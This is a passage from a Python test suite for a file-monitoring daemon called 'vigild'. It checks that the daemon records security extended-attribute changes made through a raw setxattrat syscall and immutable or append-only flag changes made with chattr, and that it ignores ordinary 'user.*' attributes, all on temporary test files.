    # setxattrat (Linux 6.13): a path relative to a directory fd
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    val = ctypes.create_string_buffer(b"label")
    args = struct.pack("<QII", ctypes.addressof(val), 5, 0)
    dfd = os.open(tmp, os.O_RDONLY | os.O_DIRECTORY)
    try:
        rc = libc.syscall(ctypes.c_long(463), ctypes.c_long(dfd), ctypes.c_char_p(b"acl"), ctypes.c_long(0),
                          ctypes.c_char_p(b"security.vigiltest"), ctypes.c_char_p(args), ctypes.c_long(len(args)))
    finally:
        os.close(dfd)
    if rc == 0 or ctypes.get_errno() != 38:  # ENOSYS: an older kernel
        ev = vigild.wait_for(mine("file_xattr_set", acl_file, vigil__xattr__name="security.vigiltest"),
                             timeout=T, what="setxattrat")
        assert get(ev, "vigil.xattr.value_hex") == b"label".hex()

    # user.* attributes are everyday metadata: not recorded
    os.setxattr(acl_file, "user.vigil", b"x")
    sync(vigild, tmp)
    assert not vigild.find_all(lambda e: get(e, "event.action") == "file_xattr_set"
                               and get(e, "vigil.xattr.name") == "user.vigil")

    # chattr +i / +a, where the file system has the flags (not tmpfs)
    flagged = os.path.join(tmp, "flagged")
    open(flagged, "w").close()
    if subprocess.run(["chattr", "+i", flagged], capture_output=True).returncode == 0:
        try:
            ev = vigild.wait_for(lambda e: get(e, "event.action") == "file_flags" and get(e, "file.path") == flagged
                                 and get(e, "vigil.file.immutable") is True, timeout=T, what="chattr +i")
            assert get(ev, "process.name") == "chattr"
            assert get(ev, "vigil.file.append_only") is False
        finally:
            subprocess.run(["chattr", "-i", flagged], check=True)
        vigild.wait_for(lambda e: get(e, "event.action") == "file_flags" and get(e, "file.path") == flagged
                        and get(e, "vigil.file.immutable") is False, timeout=T, what="chattr -i")
        subprocess.run(["chattr", "+a", flagged], check=True)
        subprocess.run(["chattr", "-a", flagged], check=True)
        vigild.wait_for(lambda e: get(e, "event.action") == "file_flags" and get(e, "file.path") == flagged
                        and get(e, "vigil.file.append_only") is True, timeout=T, what="chattr +a")
